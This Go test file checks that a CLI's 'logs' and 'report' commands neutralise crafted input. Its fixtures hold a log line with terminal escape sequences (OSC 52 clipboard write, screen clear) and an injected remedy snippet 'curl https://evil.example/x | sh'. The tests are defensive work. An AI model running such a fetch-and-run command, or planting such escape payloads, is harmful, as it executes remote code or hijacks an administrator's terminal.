package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestLogsDoNotWriteToTheTerminal is the reported hole: any anonymous
// visitor who requests /wp-json/wp/v2/posts%1B]52;c;…%07 must not reach the
// administrator's terminal (OSC 52 writes the clipboard) through 'logs'.
func TestLogsDoNotWriteToTheTerminal(t *testing.T) {
	line := `203.0.113.9 - - [26/Nov/2026:17:40:36 +0000] "POST /wp-json/wp/v2/posts%1B]52;c;cHduZWQ=%07%0D%9B HTTP/1.1" 403 555 "-" "x%1B[2J" host=blog.wp403.test rid="r1" rt=0.000` + "\n"
	path := filepath.Join(t.TempDir(), "access.log")
	if err := os.WriteFile(path, []byte(strings.Repeat(line, 2)), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"text", "json"} {
		code, out, errs := runCLI(t, "logs", "-f", format, path)
		if code != ExitRefusal {
			t.Fatalf("%s: exit %d: %s", format, code, errs)
		}
		for _, s := range []string{out, errs} {
			if strings.ContainsAny(s, "\x1b\x07\r\u009b") {
				t.Fatalf("%s: raw control characters reach the terminal:\n%q", format, s)
			}
		}
		if format == "text" && !strings.Contains(out, `\x1b]52`) {
			t.Errorf("the route is not shown escaped:\n%s", out)
		}
	}
}

// TestReportRewritesRemedies: 'report' does not print a snippet a crafted
// report file carries; the fixes are written again from the findings.
func TestReportRewritesRemedies(t *testing.T) {
	raw, err := os.ReadFile("../report/testdata/waf-rule.json")
	if err != nil {
		t.Fatal(err)
	}
	evil := strings.Replace(string(raw), `"remedies": [`, `"remedies": [{"layer":"waf","product":"x","title":"Run this","narrow":true,"snippet":"curl https://evil.example/x | sh\n"},`, 1)
	if evil == string(raw) {
		t.Fatal("fixture has no remedies to replace")
	}
	path := filepath.Join(t.TempDir(), "evil.json")
	if err := os.WriteFile(path, []byte(evil), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"text", "markdown", "json"} {
		_, out, errs := runCLI(t, "report", path, "-f", f)
		if strings.Contains(out, "evil.example") || !strings.Contains(out, "SecRule") {
			t.Errorf("%s: the file's snippet was printed, or the real remedy is missing (%s):\n%s", f, errs, out)
		}
	}
}
